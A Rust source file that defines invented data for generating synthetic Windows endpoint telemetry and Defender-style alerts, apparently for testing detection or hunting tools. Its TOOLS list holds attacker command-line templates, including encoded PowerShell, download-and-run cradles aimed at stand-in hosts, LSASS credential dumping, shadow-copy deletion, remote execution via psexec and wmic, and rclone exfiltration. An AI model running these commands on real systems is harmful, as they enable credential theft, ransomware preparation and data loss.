//! What made-up data is made of: programs and how they are started, people, alerts. Every name here is invented or a
//! part of an operating system.

/// A program as it is met on devices, the commonest first.
pub struct Program {
    pub file: &'static str,
    pub folder: &'static str,
    pub company: &'static str,
    pub product: &'static str,
    pub description: &'static str,
    /// How often of a hundred times a service account starts it.
    pub system: u32,
    /// Positions in [`PROGRAMS`] of what starts it.
    pub parents: &'static [usize],
    /// Command lines; `{…}` is filled in, see [`crate::generate::world::World::fill`].
    pub lines: &'static [&'static str],
}

const MICROSOFT: &str = "Microsoft Corporation";
const WINDOWS: &str = "Microsoft® Windows® Operating System";
const SYSTEM32: &str = r"C:\Windows\System32";

const fn windows(
    file: &'static str,
    description: &'static str,
    system: u32,
    parents: &'static [usize],
    lines: &'static [&'static str],
) -> Program {
    Program { file, folder: SYSTEM32, company: MICROSOFT, product: WINDOWS, description, system, parents, lines }
}

pub const PROGRAMS: &[Program] = &[
    windows(
        "svchost.exe",
        "Host Process for Windows Services",
        98,
        &[8],
        &[
            "svchost.exe -k netsvcs -p -s Schedule",
            "svchost.exe -k netsvcs -p -s BITS",
            "svchost.exe -k LocalServiceNetworkRestricted -p -s EventLog",
            "svchost.exe -k wsappx -p -s AppXSvc",
            "svchost.exe -k UnistackSvcGroup -s CDPUserSvc",
        ],
    ),
    windows(
        "conhost.exe",
        "Console Window Host",
        40,
        &[2, 3, 10],
        &[r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"],
    ),
    windows(
        "cmd.exe",
        "Windows Command Processor",
        30,
        &[0, 4, 3, 13],
        &[
            r#"cmd.exe /c "echo {hex8} > \\.\pipe\{hex8}""#,
            r#""C:\Windows\system32\cmd.exe" /d /c {script}.cmd"#,
            r#"cmd.exe /c dir /b "C:\Users\{user}\Documents""#,
            "cmd.exe /c ver",
        ],
    ),
    Program {
        file: "powershell.exe",
        folder: r"C:\Windows\System32\WindowsPowerShell\v1.0",
        company: MICROSOFT,
        product: WINDOWS,
        description: "Windows PowerShell",
        system: 45,
        parents: &[0, 2, 4, 13],
        lines: &[
            r#"powershell.exe -NoProfile -ExecutionPolicy Bypass -File "C:\ProgramData\Agent\{script}.ps1""#,
            r#""powershell.exe" -NoProfile -NonInteractive -Command "Get-CimInstance Win32_LogicalDisk | Select-Object DeviceID,FreeSpace""#,
            r"powershell.exe -ExecutionPolicy AllSigned -NoProfile -NonInteractive -File C:\Scripts\{script}.ps1 -Id {n}",
        ],
    },
    Program {
        file: "explorer.exe",
        folder: r"C:\Windows",
        company: MICROSOFT,
        product: WINDOWS,
        description: "Windows Explorer",
        system: 0,
        parents: &[9],
        lines: &[r"C:\Windows\Explorer.EXE", r"explorer.exe /factory,{guid} -Embedding"],
    },
    Program {
        file: "chrome.exe",
        folder: r"C:\Program Files\Google\Chrome\Application",
        company: "Google LLC",
        product: "Google Chrome",
        description: "Google Chrome",
        system: 0,
        parents: &[4, 5],
        lines: &[
            r#""chrome.exe" --type=renderer --field-trial-handle={n},i,{n},{n} --lang=en-US --renderer-client-id={n}"#,
            r#""chrome.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=de"#,
            r#""chrome.exe" --single-argument {url}"#,
        ],
    },
    Program {
        file: "msedge.exe",
        folder: r"C:\Program Files (x86)\Microsoft\Edge\Application",
        company: MICROSOFT,
        product: "Microsoft Edge",
        description: "Microsoft Edge",
        system: 0,
        parents: &[4, 6],
        lines: &[
            r#""msedge.exe" --type=renderer --lang=en-US --renderer-client-id={n} --launch-time-ticks={n}"#,
            r#""msedge.exe" --single-argument {url}"#,
        ],
    },
    Program {
        file: "OUTLOOK.EXE",
        folder: r"C:\Program Files\Microsoft Office\root\Office16",
        company: MICROSOFT,
        product: "Microsoft Outlook",
        description: "Microsoft Outlook",
        system: 0,
        parents: &[4],
        lines: &[r#""OUTLOOK.EXE""#, r#""OUTLOOK.EXE" /eml "C:\Users\{user}\Downloads\{document}.eml""#],
    },
    windows("services.exe", "Services and Controller app", 100, &[9], &["services.exe"]),
    windows("winlogon.exe", "Windows Logon Application", 100, &[9], &["winlogon.exe"]),
    windows(
        "taskhostw.exe",
        "Host Process for Windows Tasks",
        55,
        &[0],
        &["taskhostw.exe", "taskhostw.exe Logon", "taskhostw.exe {hex8}"],
    ),
    windows(
        "rundll32.exe",
        "Windows host process (Rundll32)",
        40,
        &[0, 4],
        &[
            r"rundll32.exe C:\Windows\System32\shell32.dll,Control_RunDLL desk.cpl",
            r#""rundll32.exe" Windows.Storage.ApplicationData.dll,CleanupTemporaryState"#,
            "rundll32.exe printui.dll,PrintUIEntry /in /n{printer}",
        ],
    ),
    Program {
        file: "Teams.exe",
        folder: r"C:\Users\{user}\AppData\Local\Microsoft\Teams\current",
        company: MICROSOFT,
        product: "Microsoft Teams",
        description: "Microsoft Teams",
        system: 0,
        parents: &[4, 12],
        lines: &[r#""Teams.exe" --type=gpu-process --field-trial-handle={n},{n} --enable-features=SharedArrayBuffer"#],
    },
    Program {
        file: "Code.exe",
        folder: r"C:\Users\{user}\AppData\Local\Programs\Microsoft VS Code",
        company: MICROSOFT,
        product: "Visual Studio Code",
        description: "Visual Studio Code",
        system: 0,
        parents: &[4, 13],
        lines: &[
            r#""Code.exe" --type=renderer --user-data-dir="C:\Users\{user}\AppData\Roaming\Code""#,
            r#""Code.exe" C:\src\{script}"#,
        ],
    },
    Program {
        file: "WINWORD.EXE",
        folder: r"C:\Program Files\Microsoft Office\root\Office16",
        company: MICROSOFT,
        product: "Microsoft Office",
        description: "Microsoft Word",
        system: 0,
        parents: &[4, 7],
        lines: &[r#""WINWORD.EXE" /n "C:\Users\{user}\Documents\{document}.docx" /o """#],
    },
    Program {
        file: "EXCEL.EXE",
        folder: r"C:\Program Files\Microsoft Office\root\Office16",
        company: MICROSOFT,
        product: "Microsoft Office",
        description: "Microsoft Excel",
        system: 0,
        parents: &[4, 7],
        lines: &[r#""EXCEL.EXE" "C:\Users\{user}\Documents\{document}.xlsx""#],
    },
    windows(
        "WmiPrvSE.exe",
        "WMI Provider Host",
        100,
        &[0],
        &["wmiprvse.exe -secured -Embedding", "wmiprvse.exe -Embedding"],
    ),
    windows(
        "sc.exe",
        "Service Control Manager Configuration Tool",
        85,
        &[0, 2],
        &["sc.exe start wuauserv", "sc.exe query {script}"],
    ),
    windows(
        "gpupdate.exe",
        "Microsoft® Group Policy Update Utility",
        95,
        &[0],
        &["gpupdate.exe /target:computer", "gpupdate.exe /force"],
    ),
    windows(
        "schtasks.exe",
        "Task Scheduler Configuration Tool",
        60,
        &[2, 3],
        &[
            r#"schtasks.exe /query /tn "\Agent\{script}" /fo csv"#,
            r#"schtasks.exe /create /sc daily /tn "{script}" /tr "C:\Scripts\{script}.cmd" /st 03:{n2}"#,
        ],
    ),
    windows(
        "reg.exe",
        "Registry Console Tool",
        50,
        &[2, 3],
        &[
            r"reg.exe query HKLM\SOFTWARE\Microsoft\Windows\CurrentVersion\Uninstall /s",
            r"reg add HKCU\Software\Agent /v Last /t REG_SZ /d {hex8} /f",
        ],
    ),
    windows(
        "net.exe",
        "Net Command",
        35,
        &[2, 3],
        &["net use Z: {share}", "net localgroup administrators", "net start"],
    ),
    windows("ipconfig.exe", "IP Configuration Utility", 20, &[2, 3], &["ipconfig /all", "ipconfig /flushdns"]),
    windows("whoami.exe", "whoami - displays logged on user information", 15, &[2, 3], &["whoami /groups", "whoami"]),
    windows(
        "tasklist.exe",
        "Lists the current running tasks",
        30,
        &[2, 3],
        &["tasklist /svc", r#"tasklist /fi "imagename eq {script}.exe""#],
    ),
    windows(
        "msiexec.exe",
        "Windows® installer",
        70,
        &[0, 2],
        &[r"msiexec.exe /V", r#"msiexec.exe /i "C:\Windows\ccmcache\{hex8}\{script}.msi" /qn /norestart"#],
    ),
    windows(
        "MpCmdRun.exe",
        "Microsoft Malware Protection Command Line Utility",
        100,
        &[0],
        &[
            "MpCmdRun.exe SignaturesUpdateService -ScheduleJob -UnmanagedUpdate",
            "MpCmdRun.exe Scan -ScheduleJob -RestrictPrivileges",
        ],
    ),
    windows(
        "SearchProtocolHost.exe",
        "Microsoft Windows Search Protocol Host",
        80,
        &[0],
        &[
            r#""SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{n}_ Global\UsGthrCtrlFltPipeMssGthrPipe{n} 1 -{n}"#,
        ],
    ),
    windows("dllhost.exe", "COM Surrogate", 45, &[0], &["dllhost.exe /Processid:{guid}"]),
    windows("RuntimeBroker.exe", "Runtime Broker", 0, &[0], &["RuntimeBroker.exe -Embedding"]),
    windows("notepad.exe", "Notepad", 2, &[4], &[r#""notepad.exe" C:\Users\{user}\Desktop\{document}.txt"#]),
    windows("mstsc.exe", "Remote Desktop Connection", 0, &[4], &["mstsc.exe /v:{device}"]),
    Program {
        file: "git.exe",
        folder: r"C:\Program Files\Git\cmd",
        company: "The Git Development Community",
        product: "Git",
        description: "Git for Windows",
        system: 5,
        parents: &[13, 2],
        lines: &[
            "git.exe fetch --prune origin",
            "git.exe -c core.quotepath=false status -z -uall",
            "git log --format=%H -n {n2} -- src/{script}",
        ],
    },
    Program {
        file: "python.exe",
        folder: r"C:\Program Files\Python312",
        company: "Python Software Foundation",
        product: "Python",
        description: "Python",
        system: 25,
        parents: &[2, 13, 0],
        lines: &[
            r"python.exe C:\Scripts\{script}.py --since {n2}",
            r#"python -c "import json,sys;print(len(json.load(sys.stdin)))""#,
        ],
    },
    Program {
        file: "java.exe",
        folder: r"C:\Program Files\Eclipse Adoptium\jdk-17\bin",
        company: "Eclipse Adoptium",
        product: "OpenJDK Platform binary",
        description: "OpenJDK Platform binary",
        system: 60,
        parents: &[2, 0],
        lines: &[r#"java.exe -Xmx{n2}g -jar "C:\Apps\{script}\{script}.jar" --server.port=80{n2}"#],
    },
    Program {
        file: "node.exe",
        folder: r"C:\Program Files\nodejs",
        company: "Node.js",
        product: "Node.js",
        description: "Node.js JavaScript Runtime",
        system: 10,
        parents: &[13, 2],
        lines: &[r#"node.exe "C:\src\{script}\node_modules\.bin\tsc" --watch"#, "node server.js --port {n}"],
    },
    Program {
        file: "AcroRd32.exe",
        folder: r"C:\Program Files (x86)\Adobe\Acrobat Reader DC\Reader",
        company: "Adobe Inc.",
        product: "Adobe Acrobat Reader DC",
        description: "Adobe Acrobat Reader DC",
        system: 0,
        parents: &[4, 7, 5],
        lines: &[r#""AcroRd32.exe" "C:\Users\{user}\Downloads\{document}.pdf""#],
    },
    Program {
        file: "agent-updater.exe",
        folder: r"C:\ProgramData\Contoso\Agent",
        company: "Contoso Ltd.",
        product: "Contoso Endpoint Agent",
        description: "Überwachungsdienst",
        system: 100,
        parents: &[0],
        lines: &["agent-updater.exe --channel stable --install-id {guid}", "agent-updater.exe --check"],
    },
];

/// What attackers start: rare among the rest, so that there is something to find.
pub const TOOLS: &[(&str, &str, &[&str])] = &[
    (
        "powershell.exe",
        r"C:\Windows\System32\WindowsPowerShell\v1.0",
        &[
            "powershell.exe -nop -w hidden -enc {b64}",
            r#"powershell -c "IEX (New-Object Net.WebClient).DownloadString('{url}')""#,
            r"powershell.exe -ep bypass -c Invoke-WebRequest {url} -OutFile C:\Users\Public\{hex8}.exe",
        ],
    ),
    (
        "rundll32.exe",
        SYSTEM32,
        &[
            r"rundll32.exe C:\Users\Public\{hex8}.dll,Start",
            r"rundll32 C:\Windows\System32\comsvcs.dll, MiniDump {n} C:\Temp\{hex8}.dmp full",
        ],
    ),
    (
        "certutil.exe",
        SYSTEM32,
        &[
            r"certutil.exe -urlcache -split -f {url} C:\Users\Public\{hex8}.exe",
            r"certutil -decode C:\Temp\{hex8}.txt C:\Temp\{hex8}.exe",
        ],
    ),
    ("mshta.exe", SYSTEM32, &["mshta.exe {url}", r#"mshta vbscript:Close(Execute("GetObject(""script:{url}"")"))"#]),
    ("vssadmin.exe", SYSTEM32, &["vssadmin.exe delete shadows /all /quiet"]),
    (
        "wmic.exe",
        r"C:\Windows\System32\wbem",
        &[r#"wmic /node:{ip} process call create "cmd.exe /c {hex8}.exe""#, "wmic shadowcopy delete"],
    ),
    ("regsvr32.exe", SYSTEM32, &["regsvr32.exe /s /n /u /i:{url} scrobj.dll"]),
    (
        "bitsadmin.exe",
        SYSTEM32,
        &[r"bitsadmin /transfer {hex8} /download /priority high {url} C:\Users\Public\{hex8}.exe"],
    ),
    ("net.exe", SYSTEM32, &["net user {hex8} P@ss{n} /add", r#"net group "Domain Admins" /domain"#]),
    ("procdump64.exe", r"C:\Users\Public", &[r"procdump64.exe -accepteula -ma lsass.exe C:\Users\Public\{hex8}.dmp"]),
    ("psexec.exe", r"C:\Tools", &[r"psexec.exe \\{ip} -s -d cmd.exe /c {hex8}.bat"]),
    ("rclone.exe", r"C:\ProgramData", &[r"rclone.exe copy {share} remote:{hex8} --max-age {n2}d -q"]),
];

/// Given name, family name, and the account's name where it is not `given.family`.
pub const PEOPLE: &[(&str, &str, &str)] = &[
    ("Anna", "Berger", ""),
    ("José", "García", "jose.garcia"),
    ("Zoë", "O'Neill", "zoe.oneill"),
    ("Łukasz", "Wójcik", "lukasz.wojcik"),
    ("Jürgen", "Müller", "jürgen.müller"),
    ("Ольга", "Иванова", "o.ivanova"),
    ("伟", "李", "li.wei"),
    ("さくら", "田中", "s.tanaka"),
    ("Aylin", "Yıldız", "aylin.yildiz"),
    ("Priya", "Sharma", ""),
    ("Noah", "Smith", ""),
    ("Emma", "Johansson", ""),
    ("Amina", "Diallo", ""),
    ("Søren", "Kjær", "soren.kjaer"),
    ("Giulia", "Rossi", ""),
    ("محمد", "علي", "m.ali"),
    ("Chloé", "Lefèvre", "chloe.lefevre"),
    ("Tomás", "Novák", "tomas.novak"),
    ("Hannah", "Schmidt", ""),
    ("Oliver", "Brown", ""),
];

pub const SCRIPTS: &[&str] = &[
    "inventory",
    "backup",
    "collect-logs",
    "cleanup_temp",
    "sync-users",
    "patch_check",
    "report",
    "renew-certs",
    "disk-usage",
    "heartbeat",
    "rotate",
    "import_orders",
    "health",
    "nightly",
    "étiquettes",
];
pub const DOCUMENTS: &[&str] = &[
    "Quarterly report",
    "Invoice 4711",
    "Budget 2024 (final)",
    "Protokoll Ständige Sitzung",
    "議事録",
    "Contract - signed",
    "résumé",
    "Travel plan",
    "Отчёт",
    "notes",
    "Price list",
    "Org chart",
];
pub const HOSTS: &[&str] = &[
    "files.contoso.example",
    "cdn.fabrikam.example",
    "login-update.test",
    "static.adatum.example",
    "paste.invalid",
    "download.northwind.example",
    "xn--bcher-kva.example",
    "api.tailspin.example",
];
pub const SITES: &[&str] = &["corp.contoso.example", "emea.contoso.example", "lab.fabrikam.example"];
pub const FAMILIES: &[&str] =
    &["Meterpreter", "CobaltStrike", "Qakbot", "Emotet", "AgentTesla", "Mimikatz", "LockBit", "RedLine"];

/// A kind of alert: title, category, severity, source by its name in the alerts API, techniques, and whether it tells of
/// malware.
pub struct AlertKind {
    pub title: &'static str,
    pub category: &'static str,
    pub severity: &'static str,
    pub source: &'static str,
    pub techniques: &'static [(&'static str, &'static str)],
}

const fn kind(
    title: &'static str,
    category: &'static str,
    severity: &'static str,
    source: &'static str,
    techniques: &'static [(&'static str, &'static str)],
) -> AlertKind {
    AlertKind { title, category, severity, source, techniques }
}

pub const ALERTS: &[AlertKind] = &[
    kind(
        "Suspicious PowerShell command line",
        "Execution",
        "Medium",
        "WindowsDefenderAtp",
        &[("PowerShell", "T1086"), ("Command and Scripting Interpreter", "T1059")],
    ),
    kind("'{family}' malware was prevented", "Malware", "Informational", "WindowsDefenderAv", &[]),
    kind("'{family}' malware was detected on one endpoint", "Malware", "Low", "WindowsDefenderAv", &[]),
    kind(
        "An active '{family}' malware in a command line was prevented from executing",
        "Malware",
        "Low",
        "WindowsDefenderAv",
        &[("Command and Scripting Interpreter", "T1059")],
    ),
    kind("Suspicious process discovery", "Discovery", "Low", "WindowsDefenderAtp", &[("Process Discovery", "T1057")]),
    kind(
        "Suspicious sequence of exploration activities",
        "Discovery",
        "Low",
        "WindowsDefenderAtp",
        &[("System Owner/User Discovery", "T1033"), ("Account Discovery", "T1087")],
    ),
    kind("Anomalous account lookups", "Discovery", "Low", "WindowsDefenderAtp", &[("Account Discovery", "T1087")]),
    kind("Connection to a custom network indicator", "SuspiciousActivity", "Medium", "CustomerTI", &[]),
    kind(
        "Unusual number of failed sign-in attempts",
        "CredentialAccess",
        "Medium",
        "AzureATP",
        &[("Brute Force", "T1110")],
    ),
    kind(
        "Possible credential dump with {file}",
        "CredentialAccess",
        "High",
        "WindowsDefenderAtp",
        &[("OS Credential Dumping", "T1003"), ("LSASS Memory", "T1003.001")],
    ),
    kind(
        "File dropped and launched from remote location",
        "LateralMovement",
        "Medium",
        "WindowsDefenderAtp",
        &[("Lateral Tool Transfer", "T1570"), ("SMB/Windows Admin Shares", "T1021.002")],
    ),
    kind(
        "Suspicious remote activity by {user}",
        "LateralMovement",
        "Medium",
        "WindowsDefenderAtp",
        &[("Remote Services", "T1021")],
    ),
    kind(
        "Anomaly detected in ASEP registry",
        "Persistence",
        "Medium",
        "WindowsDefenderAtp",
        &[("Registry Run Keys / Startup Folder", "T1547.001")],
    ),
    kind(
        "Suspicious scheduled task",
        "Persistence",
        "Medium",
        "WindowsDefenderAtp",
        &[("Scheduled Task", "T1053.005")],
    ),
    kind(
        "New local administrator added by {user}",
        "Persistence",
        "Low",
        "CustomDetection",
        &[("Create Account", "T1136")],
    ),
    kind(
        "Tampering with Defender settings",
        "DefenseEvasion",
        "High",
        "WindowsDefenderAtp",
        &[("Impair Defenses", "T1562")],
    ),
    kind(
        "Low-reputation code executed by signed executable",
        "DefenseEvasion",
        "Low",
        "WindowsDefenderAtp",
        &[("Rundll32", "T1085"), ("System Binary Proxy Execution", "T1218")],
    ),
    kind(
        "Event log was cleared on {device}",
        "DefenseEvasion",
        "Medium",
        "WindowsDefenderAtp",
        &[("Clear Windows Event Logs", "T1070.001")],
    ),
    kind(
        "Ransomware behavior: shadow copies deleted",
        "Ransomware",
        "High",
        "WindowsDefenderAtp",
        &[("Inhibit System Recovery", "T1490")],
    ),
    kind("Unwanted software '{family}' was prevented", "UnwantedSoftware", "Informational", "WindowsDefenderAv", &[]),
    kind(
        "SmartScreen: {user} opened a page that was reported as phishing",
        "InitialAccess",
        "Informational",
        "WindowsDefenderSmartScreen",
        &[("Phishing", "T1566")],
    ),
    kind(
        "Mail with malicious file was delivered and opened",
        "InitialAccess",
        "Medium",
        "OfficeATP",
        &[("Spearphishing Attachment", "T1566.001")],
    ),
    kind(
        "Large upload to unusual cloud storage",
        "Exfiltration",
        "Medium",
        "MTP",
        &[("Exfiltration to Cloud Storage", "T1567.002")],
    ),
    kind("Beaconing to {host}", "CommandAndControl", "High", "WindowsDefenderAtp", &[("Web Protocols", "T1071.001")]),
    kind(
        "Automated investigation found remains of '{family}'",
        "Malware",
        "Informational",
        "AutomatedInvestigation",
        &[],
    ),
    kind(
        "Verdächtige Änderung an einem Dienst",
        "PrivilegeEscalation",
        "Medium",
        "CustomDetection",
        &[("Windows Service", "T1543.003")],
    ),
    kind("Third-party sensor: blocked intrusion on {device}", "SuspiciousActivity", "Low", "ThirdPartySensors", &[]),
];

/// What the managed hunters write.
pub const HUNTERS: &[AlertKind] = &[
    kind(
        "Hands-on-keyboard attack involving {file} on {device}",
        "LateralMovement",
        "High",
        "ThreatExperts",
        &[("PowerShell", "T1086"), ("Remote Services", "T1021")],
    ),
    kind(
        "Endpoint attack: {family} operator preparing ransomware",
        "Ransomware",
        "High",
        "ThreatExperts",
        &[("Inhibit System Recovery", "T1490"), ("PowerShell", "T1086")],
    ),
    kind(
        "Targeted espionage: unusual collection by {user}",
        "Collection",
        "High",
        "ThreatExperts",
        &[("Data from Local System", "T1005")],
    ),
];

/// Detection source: in the alerts API, in AlertInfo, and the product that AlertInfo names.
pub const SOURCES: &[(&str, &str, &str)] = &[
    ("WindowsDefenderAtp", "EDR", "Microsoft Defender for Endpoint"),
    ("WindowsDefenderAv", "Antivirus", "Microsoft Defender for Endpoint"),
    ("WindowsDefenderSmartScreen", "SmartScreen", "Microsoft Defender for Endpoint"),
    ("CustomerTI", "Custom TI", "Microsoft Defender for Endpoint"),
    ("CustomDetection", "Custom detection", "Microsoft 365 Defender"),
    ("AutomatedInvestigation", "Automated investigation", "Microsoft Defender for Endpoint"),
    ("OfficeATP", "Microsoft Defender for Office 365", "Microsoft Defender for Office 365"),
    ("AzureATP", "Microsoft Defender for Identity", "Microsoft Defender for Identity"),
    ("MTP", "Microsoft 365 Defender", "Microsoft 365 Defender"),
    ("ThirdPartySensors", "3rd Party sensors", "Microsoft Defender for Endpoint"),
    ("ThreatExperts", "Microsoft Threat Experts", "Microsoft Defender for Endpoint"),
];
